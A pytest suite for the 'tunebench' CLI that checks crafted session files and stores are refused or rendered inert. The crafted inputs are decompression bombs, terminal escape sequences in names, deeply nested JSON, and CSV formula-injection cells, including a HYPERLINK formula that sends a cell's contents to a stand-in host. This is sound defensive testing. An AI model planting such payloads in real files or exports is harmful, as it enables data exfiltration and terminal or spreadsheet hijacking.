"""Session files and stores someone crafted: times that are no date, summaries that are no object, decompression
bombs, names that drive the terminal or a spreadsheet, a --db that is no file, a running session deleted. Bad input
is one line, exit 2, nothing written; one bad value in a store never takes the rest of it down."""

import json
import os
import sqlite3
import tracemalloc
import zlib
from pathlib import Path

import pytest

from tunebench.cli import main
from tunebench.core.errors import StoreError
from tunebench.store.models import SCHEMA_VERSION
from tunebench.store.repo import Store
from tunebench.store.synthetic import record

os.environ.setdefault("QT_QPA_PLATFORM", "offscreen")  # the replay bar below, if it is the first widget made


def _run(capsys, *argv):
    """The CLI in this process (a subprocess costs half a second): exit status, stdout, stderr."""
    rc = main(list(argv))
    out = capsys.readouterr()
    return rc, out.out, out.err


def _one_line_error(rc, err, needle):
    lines = [ln for ln in err.splitlines() if ln.strip()]
    assert rc == 2 and len(lines) == 1 and lines[0].startswith("tunebench: error:") and needle in lines[0], err
    assert "Traceback" not in err


@pytest.fixture(scope="module")
def exported(tmp_path_factory):
    """One recorded session (2 steps, events, 20 series) as an exported file."""
    root = tmp_path_factory.mktemp("exported")
    store = Store(root / "src.sqlite")
    out = store.export_session(record(store, 20, 20), root / "one.tbsession")
    store.close()
    return out


def _crafted(exported, tmp_path, *sql):
    path = tmp_path / "crafted.tbsession"
    path.write_bytes(exported.read_bytes())
    with sqlite3.connect(path) as c:
        for statement in sql:
            c.execute(statement)
    c.close()
    return path


# ---- 9: times and numbers ------------------------------------------------------------------------------------

@pytest.mark.parametrize("sql", [
    "UPDATE sessions SET started_at = 9e999",  # inf
    "UPDATE sessions SET started_at = -1e12",
    "UPDATE sessions SET ended_at = -9e999",
    "UPDATE sessions SET started_at = 'yesterday'",
    "UPDATE steps SET measure_from = 9e999",
    "UPDATE events SET t = -5",
    "UPDATE sample_chunks SET t_first = 9e999",
    "UPDATE steps SET summary = 'NaN'",  # a step summary that is no object: the md export's traceback
    "UPDATE sessions SET summary = '{\"steps\": NaN}'",
    "UPDATE sessions SET summary = replace(summary, '\"cv\": 0.03', '\"cv\": Infinity')",
    "UPDATE sessions SET config = printf('%.*c', 100000, '[')",  # nested deeper than Python recurses
])
def test_import_refuses_numbers_and_times_that_are_no_such_thing(exported, tmp_path, capsys, sql):
    src = _crafted(exported, tmp_path, sql)
    db = tmp_path / "b.sqlite"
    Store(db).close()
    before = db.read_bytes()
    rc, _out, err = _run(capsys, "--db", str(db), "sessions", "import", str(src))
    _one_line_error(rc, err, f"cannot import {src}")
    assert Store(db).list_sessions() == [] and db.read_bytes() == before


def test_one_bad_value_never_takes_the_store_down(tmp_path, capsys):
    db = tmp_path / "s.sqlite"
    store = Store(db)
    ids = [record(store, 10, 12, seed=i) for i in range(6)]
    store.close()
    with sqlite3.connect(db) as c:  # written into the store itself, as an older Tunebench's import let them in
        c.execute("UPDATE sessions SET started_at = 9e999, ended_at = 1e308 WHERE id = ?", (ids[0],))
        c.execute("UPDATE sessions SET started_at = -1e12 WHERE id = ?", (ids[1],))
        c.execute("UPDATE steps SET summary = 'NaN' WHERE session_id = ?", (ids[2],))
        c.execute("UPDATE sessions SET summary = '{\"steps\": NaN}' WHERE id = ?", (ids[3],))
        c.execute("UPDATE sessions SET summary = '[1, 2]', config = '{not json' WHERE id = ?", (ids[4],))
        c.execute("UPDATE sessions SET summary = replace(summary, '\"tps\": 1', '\"tps\": \"fast\", \"x\": 1')"
                  " WHERE id = ?", (ids[5],))
    c.close()
    rc, out, err = _run(capsys, "--db", str(db), "sessions", "list")
    assert rc == 0, err
    rows = out.splitlines()[1:]
    assert [int(r.split()[0]) for r in rows] == ids and rows[0].split()[1] == "?"
    for sid in ids:
        rc, out, err = _run(capsys, "--db", str(db), "sessions", "export", str(sid), "--format", "md")
        assert rc == 0 and out.startswith(f"# Session {sid}"), err


def test_the_window_opens_and_replays_a_session_of_impossible_times(tmp_path, qtbot):
    from tunebench.ui.replay import ReplayBar, load_session
    from tunebench.ui.sessions_panel import _cell
    from tunebench.ui.timeline import Timeline

    assert _cell("started_at", float("inf")) == "?" and _cell("duration", float("inf")) == "?"
    store = Store(tmp_path / "s.sqlite")
    sid = record(store, 10, 12)
    with sqlite3.connect(tmp_path / "s.sqlite") as c:
        c.execute("UPDATE sessions SET started_at = -1e12")
    c.close()
    bar = ReplayBar()
    qtbot.addWidget(bar)
    timeline = Timeline()
    load_session(store, sid, timeline)
    bar.attach(timeline)  # OverflowError: the slider's range from 1e12 s
    assert bar.slider.maximum() > 0


# ---- 10: decompression bombs ---------------------------------------------------------------------------------

@pytest.mark.parametrize("declared", ["honest", "small"])
def test_import_refuses_a_decompression_bomb(exported, tmp_path, declared):
    zeros = 64 * 2**20
    blob = zlib.compress(bytes(zeros), 9)  # 64 KB in the file
    n = zeros // 8 if declared == "honest" else 2  # what the row says it holds
    src = _crafted(exported, tmp_path, "DELETE FROM sample_chunks WHERE id > (SELECT min(id) FROM sample_chunks)")
    with sqlite3.connect(src) as c:
        c.execute("UPDATE sample_chunks SET n = ?, ts = ?, vs = ?", (n, blob, zlib.compress(bytes(zeros // 2), 9)))
    c.close()
    b = Store(tmp_path / "b.sqlite")
    tracemalloc.start()
    try:
        with pytest.raises(StoreError, match="sample chunk"):
            b.import_sessions(src)
        peak = tracemalloc.get_traced_memory()[1]
    finally:
        tracemalloc.stop()
    assert peak < 16 * 2**20, f"{peak / 2**20:.0f} MB to refuse it"
    assert b.list_sessions() == []


def test_a_bomb_in_the_store_itself_is_one_line(exported, tmp_path, capsys):
    db = tmp_path / "s.sqlite"
    Store(db).import_sessions(exported)
    with sqlite3.connect(db) as c:
        c.execute("UPDATE sample_chunks SET vs = ? WHERE id = (SELECT min(id) FROM sample_chunks)",
                  (zlib.compress(bytes(64 * 2**20), 9),))
    c.close()
    rc, _out, err = _run(capsys, "--db", str(db), "sessions", "show", "1")
    _one_line_error(rc, err, "sample chunk")


# ---- 13: names that drive a terminal or a spreadsheet --------------------------------------------------------

OSC = "\x1b]0;owned\x07\x1b[2J\x9b31m\u202e"


def test_names_with_control_characters_are_printed_inert(tmp_path, capsys):
    db = tmp_path / "s.sqlite"
    store = Store(db)
    sid = record(store, 10, 12)
    store.update_session(sid, name=f"name{OSC}", notes=f"note{OSC}")
    store.close()
    with sqlite3.connect(db) as c:
        c.execute("UPDATE sessions SET target = ?, workload = ?, flavor = ?, version = ?",
                  (f"t{OSC}", f"w{OSC}", f"f{OSC}", f"v{OSC}"))
        c.execute("UPDATE series SET name = ? WHERE name = 'client.main.tps'", (f"s{OSC}",))
        c.execute("UPDATE sessions SET summary = replace(summary, '\"group\": \"main\"', ?)",
                  (json.dumps({"group": f"g{OSC}"})[1:-1],))
    c.close()
    for argv in (["list"], ["show", str(sid)], ["export", str(sid), "--format", "md"],
                 ["export", str(sid), "--format", "csv"]):
        rc, out, err = _run(capsys, "--db", str(db), "sessions", *argv)
        assert rc == 0, err
        assert not any(ch in out for ch in "\x1b\x07\x9b\u202e"), (argv, out)
        assert "\\x1b" in out, argv
    rc, _out, err = _run(capsys, "--db", str(db), "sessions", "import", str(tmp_path / f"x{OSC}.tbsession"))
    _one_line_error(rc, err, "no such file")  # an error quoting a name quotes it inert too
    assert "\x1b" not in err and "\\x1b" in err


def test_csv_cells_a_spreadsheet_reads_as_formulas_are_neutralised(tmp_path, capsys):
    db = tmp_path / "s.sqlite"
    store = Store(db)
    sid = record(store, 10, 12)
    store.close()
    evil = ['=HYPERLINK("http://x/?"&A1,"click")', "+1+1", "-2+3", "@SUM(A1)"]
    with sqlite3.connect(db) as c:
        for name, old in zip(evil, ["client.main.tps", "client.main.qps", "server.questions", "host.local.cpu.user"],
                             strict=True):
            c.execute("UPDATE series SET name = ? WHERE name = ?", (name, old))
    c.close()
    rc, out, err = _run(capsys, "--db", str(db), "sessions", "export", str(sid), "--format", "csv")
    assert rc == 0, err
    import csv
    import io

    header, *rows = list(csv.reader(io.StringIO(out)))
    assert sorted(h for h in header if h.startswith("'")) == sorted(f"'{e}" for e in evil)
    assert not any(cell[:1] in "=+@" for row in rows for cell in row)  # numbers stay numbers (a '-' is a minus)


# ---- 14: a --db that is no regular file ----------------------------------------------------------------------

def test_a_store_path_that_is_no_regular_file_is_refused(tmp_path, capsys):
    link = tmp_path / "store.sqlite"
    link.symlink_to("/dev/null")
    journal = Path("/dev/null-journal")
    had_journal = journal.exists()
    for db in ("/dev/null", str(link)):
        with pytest.raises(StoreError, match="not a regular file"):
            Store(db)
        rc, _out, err = _run(capsys, "--db", db, "sessions", "list")
        _one_line_error(rc, err, "not a regular file")
    assert sorted(p.name for p in tmp_path.iterdir()) == ["store.sqlite"]
    assert journal.exists() == had_journal


# ---- 8c: deleting a running session; IDs never reused --------------------------------------------------------

def test_a_session_whose_run_is_alive_cannot_be_deleted(tmp_path, capsys):
    db = tmp_path / "s.sqlite"
    store = Store(db)
    writer = store.new_session(target="sandbox", engine="builtin", workload="w")  # 'running', owned by this process
    rc, _out, err = _run(capsys, "--db", str(db), "sessions", "delete", str(writer.id))
    _one_line_error(rc, err, f"session {writer.id} is running")
    assert [s["id"] for s in store.list_sessions()] == [writer.id]
    writer.add_samples(1_790_000_000.0, {"server.questions": 1.0})
    writer.finish("completed")  # the run ends as it would have: no FOREIGN KEY failure
    rc, out, err = _run(capsys, "--db", str(db), "sessions", "delete", str(writer.id))
    assert rc == 0 and f"deleted session {writer.id}" in out, err


def test_a_session_deleted_under_its_run_is_not_called_a_damaged_file(tmp_path):
    store = Store(tmp_path / "s.sqlite")
    writer = store.new_session(target="sandbox", engine="builtin", workload="w")
    with sqlite3.connect(tmp_path / "s.sqlite") as c:  # deleted behind its back (an older Tunebench's delete)
        c.execute("PRAGMA foreign_keys=ON")
        c.execute("DELETE FROM sessions")
    c.close()
    writer.add_samples(1_790_000_000.0, {"server.questions": 1.0})
    with pytest.raises(StoreError) as info:
        writer.flush()
    assert "not a valid SQLite file" not in str(info.value) and "was deleted" in str(info.value)


def test_session_ids_are_never_reused(tmp_path):
    store = Store(tmp_path / "s.sqlite")
    a, b = (store.new_session(target="t", engine="builtin", workload="w") for _ in range(2))
    for w in (a, b):
        w.finish("completed")
    store.delete_session(b.id)
    c = store.new_session(target="t", engine="builtin", workload="w")
    assert c.id > b.id


def test_a_schema_8_store_gains_ids_that_are_never_reused(tmp_path):
    path = tmp_path / "v8.sqlite"
    store = Store(path)
    ids = [record(store, 5, 12, seed=i) for i in range(3)]
    store.close()
    with sqlite3.connect(path) as c:  # the sessions table as schema 8 made it: rowids, no AUTOINCREMENT
        c.execute("PRAGMA foreign_keys=OFF")
        ddl = c.execute("SELECT sql FROM sqlite_master WHERE name = 'sessions'").fetchone()[0]
        c.execute(ddl.replace("AUTOINCREMENT", "").replace("sessions", "sessions_v8", 1))
        c.execute("INSERT INTO sessions_v8 SELECT * FROM sessions")
        c.execute("DROP TABLE sessions")
        c.execute("ALTER TABLE sessions_v8 RENAME TO sessions")
        if c.execute("SELECT 1 FROM sqlite_master WHERE name = 'sqlite_sequence'").fetchone():
            c.execute("DELETE FROM sqlite_sequence")
        c.execute("UPDATE meta SET value = '8' WHERE key = 'schema_version'")
        assert "AUTOINCREMENT" not in c.execute("SELECT sql FROM sqlite_master WHERE name='sessions'").fetchone()[0]
    c.close()
    store = Store(path)
    assert [s["id"] for s in store.list_sessions()] == ids
    assert len(store.series(ids[2])) == 12 and len(store.get_session(ids[2])["steps"]) == 2
    store.delete_session(ids[2])
    assert store.series(ids[2]) == {}  # the steps and samples went with it, as before
    w = store.new_session(target="t", engine="builtin", workload="w")
    assert w.id > ids[2]
    with sqlite3.connect(path) as c:
        assert c.execute("SELECT value FROM meta WHERE key='schema_version'").fetchone()[0] == str(SCHEMA_VERSION)
        assert c.execute("PRAGMA foreign_key_check").fetchall() == []
        cols = [r[1] for r in c.execute("PRAGMA table_info(targets)")]
    c.close()
    assert "get_server_public_key" in cols


# ---- issue 43 item 16: the records of a tune, a trial, a rate, a verdict, by one schema -------------------------

@pytest.fixture(scope="module")
def tuned(tmp_path_factory):
    """A recorded session with a tune's events and summary (as a run writes them), a live rate change and a
    flip's verdict, exported."""
    from tunebench.core.tune import Trial, TuneResult

    root = tmp_path_factory.mktemp("tuned")
    store = Store(root / "src.sqlite")
    sid = record(store, 120, 8, verdict=True, knob_at=60)
    t0 = 1_790_000_000.0
    trials = [Trial(1, {"innodb_io_capacity": "400"}, {"innodb_io_capacity": "400"}, t0 + 10, t0 + 12, t0 + 17,
                    1010.0, 2.0, 1000.0, 2.1, 1.01, 0.98, 1.04, 5, best_so_far=1.01),
              Trial(2, {"innodb_io_capacity": "2000"}, {"innodb_io_capacity": "2000"}, t0 + 18, t0 + 20, t0 + 25,
                    1100.0, 1.9, 1000.0, 2.1, 1.1, 1.05, 1.15, 5, best_so_far=1.1)]
    tune = TuneResult({"knobs": ["innodb_io_capacity=250..4000:log"], "objective": "tps"},
                      {"innodb_io_capacity": "200"}, trials, best=2,
                      confirm={"ratio": 1.08, "ci_low": 1.03, "ci_high": 1.13, "pairs": 4, "order": "ABBABAAB",
                               "tps_a": 1000.0, "tps_b": 1080.0, "p99_a": 2.0, "p99_b": 1.9, "seconds": [12, 12],
                               "busy_left_out": 0, "busy_pct": 50.0, "windows": [["A", t0 + 26, t0 + 29]],
                               "values": {"innodb_io_capacity": "2000"}, "floor_pct": None},
                      verdict="improvement", text="innodb_io_capacity=2000: 1.08x", started_at=t0 + 5,
                      ended_at=t0 + 38)
    from tunebench.core.verdict import Verdict, WaitShift

    verdict = Verdict(1000.0, 1150.0, 1.15, 1.1, 1.2, 50, 50, 5, 2.0, 1.8, 3.0, 2.5,
                      (WaitShift("wait/io/file/innodb/innodb_log_file", 10.0, 4.0),),
                      ((t0 + 10, t0 + 59), (t0 + 61, t0 + 119)))
    with sqlite3.connect(root / "src.sqlite") as c:
        c.execute("UPDATE sessions SET summary = json_set(coalesce(summary, '{}'), '$.tune', json(?)) WHERE id = ?",
                  (json.dumps(tune.to_dict()), sid))
        c.execute("UPDATE events SET data = json_set(data, '$.verdict', json(?)) WHERE kind = 'verdict'",
                  (json.dumps(verdict.to_dict()),))
        events = [(t0 + 38, "tune", tune.text, {"tune": tune.to_dict()}),
                  (t0 + 17, "trial", "trial 1", {"n": 1, "t0": t0 + 10, "t1": t0 + 17, "trial": trials[0].to_dict()}),
                  (t0 + 9, "trial", "baseline", {"n": 0, "baseline": True, "t0": t0 + 5, "t1": t0 + 9}),
                  (t0 + 30, "rate", "rate main 100 → 200/s", {"group": "main", "from": 100.0, "to": 200.0}),
                  (t0 + 31, "statement", "statement abc: SELECT 1", {"probe": "statements", "digest": "abc",
                                                                      "full": "", "text": "SELECT 1", "schema": ""})]
        for t, kind, label, data in events:
            c.execute("INSERT INTO events (session_id, t, kind, label, data) VALUES (?, ?, ?, ?, ?)",
                      (sid, t, kind, label, json.dumps(data)))
    c.close()
    out = store.export_session(sid, root / "tuned.tbsession")
    store.close()
    return out


def test_a_tuned_session_imports_exports_and_replays(tuned, tmp_path, capsys):
    db = tmp_path / "b.sqlite"
    rc, _out, err = _run(capsys, "--db", str(db), "sessions", "import", str(tuned))
    assert rc == 0, err
    sid = Store(db).list_sessions()[0]["id"]
    rc, out, err = _run(capsys, "--db", str(db), "sessions", "export", str(sid), "--format", "md")
    assert rc == 0 and "innodb_io_capacity" in out and "1.08" in out and "1.15" in out, err


def _tune_sql(path: str, value: str, where: str = "kind = 'tune'") -> list[str]:
    return [f"UPDATE events SET data = json_set(data, '{path}', json('{value}')) WHERE {where}"]


@pytest.mark.parametrize(("sql", "said"), [
    (_tune_sql("$.tune.trials[0].tps", '"fast"'), "tps is text"),  # a string for a number
    (_tune_sql("$.tune.trials", '{"a": 1}'), "trials is an object, not a list"),  # an object for a list
    (_tune_sql("$.tune.confirm", "[1, 2]"), "confirm is a list, not an object"),  # a list for an object
    (_tune_sql("$.tune.confirm.ratio", '"1.08"'), "ratio is text"),
    (_tune_sql("$.tune.trials[1].changed_at", "1e308"), "not a plausible number"),  # a time of 1e308
    (_tune_sql("$.tune.ended_at", "1e300"), "not a plausible number"),
    (_tune_sql("$.tune.started_at", "-5"), "not a date"),
    (["UPDATE events SET data = json_remove(data, '$.tune.trials[0].n') WHERE kind = 'tune'"], "has no n"),
    (["UPDATE events SET data = json_remove(data, '$.tune.originals') WHERE kind = 'tune'"], "has no originals"),
    (["UPDATE events SET data = json_remove(data, '$.tune') WHERE kind = 'tune'"], "has no tune"),
    (_tune_sql("$.trial.objective", '"x"', "kind = 'trial' AND label = 'trial 1'"), "objective is text"),
    (_tune_sql("$.t1", "1e300", "kind = 'trial'"), "t1 is 1e+300"),
    (_tune_sql("$.to", '"fast"', "kind = 'rate'"), "to is text"),
    (_tune_sql("$.digest", "[1]", "kind = 'statement'"), "digest is a list"),
    (_tune_sql("$.verdict.ratio", '"x"', "kind = 'verdict'"), "ratio is text"),
    (_tune_sql("$.verdict.waits", '[{"name": 1}]', "kind = 'verdict'"), "name is the number 1"),
    (_tune_sql("$.at", "-1e300", "kind = 'verdict'"), "at is -1e+300"),
    (["UPDATE sessions SET summary = json_set(summary, '$.tune.trials[0].seconds', json('\"5\"'))"], "seconds is"),
    (["UPDATE sessions SET summary = json_set(summary, '$.tune.best', json('[2]'))"], "best is a list"),
])
def test_import_checks_every_field_of_a_tune_a_trial_a_rate_a_statement_a_verdict(tuned, tmp_path, capsys, sql, said):
    """Each of these used to pass the import and then break `export --format md` or `gui --replay` (a string
    for a number, a list for an object, a field missing, a 1e308 time): refused now, one line, nothing written."""
    src = _crafted(tuned, tmp_path, *sql)
    db = tmp_path / "b.sqlite"
    Store(db).close()
    before = db.read_bytes()
    rc, _out, err = _run(capsys, "--db", str(db), "sessions", "import", str(src))
    _one_line_error(rc, err, "the file is damaged")
    assert said in err, err
    assert Store(db).list_sessions() == [] and db.read_bytes() == before


@pytest.mark.parametrize("sql", [
    _tune_sql("$.tune.trials[0].tps", '"fast"')[0],
    _tune_sql("$.tune.confirm", "[1, 2]")[0],
    _tune_sql("$.tune.trials[1].changed_at", "1e308")[0],
    _tune_sql("$.verdict.ratio", '"x"', "kind = 'verdict'")[0],
    "UPDATE sessions SET summary = json_set(summary, '$.tune.trials[0].ci_low', json('\"low\"'))",
])
def test_a_store_with_a_damaged_tune_record_still_exports_and_replays(tuned, tmp_path, capsys, qtbot, sql):
    """A store others can write (a shared one) is not import-checked: the damaged record becomes a note saying
    so, and the Markdown export and the replay go on (they raised before)."""
    from tunebench.ui.replay import load_session
    from tunebench.ui.timeline import Timeline

    db = tmp_path / "b.sqlite"
    rc, _out, err = _run(capsys, "--db", str(db), "sessions", "import", str(tuned))
    assert rc == 0, err
    with sqlite3.connect(db) as c:
        c.execute(sql)
    c.close()
    store = Store(db)
    sid = store.list_sessions()[0]["id"]
    rc, out, err = _run(capsys, "--db", str(db), "sessions", "export", str(sid), "--format", "md")
    assert rc == 0 and out.startswith(f"# Session {sid}"), err
    labels = [e["label"] for e in store.get_session(sid)["events"]]
    assert any("a damaged record, left out" in lb for lb in labels) or "summary" in sql
    timeline = Timeline()
    load_session(store, sid, timeline)


def test_nan_and_infinity_in_a_store_are_no_value_in_every_export(tuned, tmp_path, capsys):
    """A store holding NaN and Infinity (written by hand, or by an older Tunebench): the Markdown said "inf" and
    "nanx" (issue 43 item 17); now such a value is no value ("-"), and the JSON export stays valid JSON."""
    db = tmp_path / "b.sqlite"
    rc, _out, err = _run(capsys, "--db", str(db), "sessions", "import", str(tuned))
    assert rc == 0, err
    with sqlite3.connect(db) as c:
        c.execute("UPDATE steps SET summary = replace(summary, '\"tps\":', '\"tps\": NaN, \"_was\":')")
        c.execute("UPDATE sessions SET summary = replace(summary, '\"tps\":', '\"tps\": Infinity, \"_was\":')")
        c.execute("UPDATE events SET data = replace(data, '\"ratio\":', '\"ratio\": NaN, \"_was\":') "
                  "WHERE kind IN ('verdict', 'tune')")
        assert c.execute("SELECT COUNT(*) FROM steps WHERE summary LIKE '%NaN%'").fetchone()[0] > 0
    c.close()
    sid = Store(db).list_sessions()[0]["id"]
    rc, md, err = _run(capsys, "--db", str(db), "sessions", "export", str(sid), "--format", "md")
    assert rc == 0, err
    words = set(md.lower().replace("|", " ").split())
    assert not words & {"nan", "nanx", "inf", "infx", "-inf"}, [ln for ln in md.splitlines() if "nan" in ln.lower()]
    rc, text, err = _run(capsys, "--db", str(db), "sessions", "export", str(sid), "--format", "json")
    assert rc == 0, err
    json.loads(text, parse_constant=lambda c: pytest.fail(f"{c} in the JSON export"))
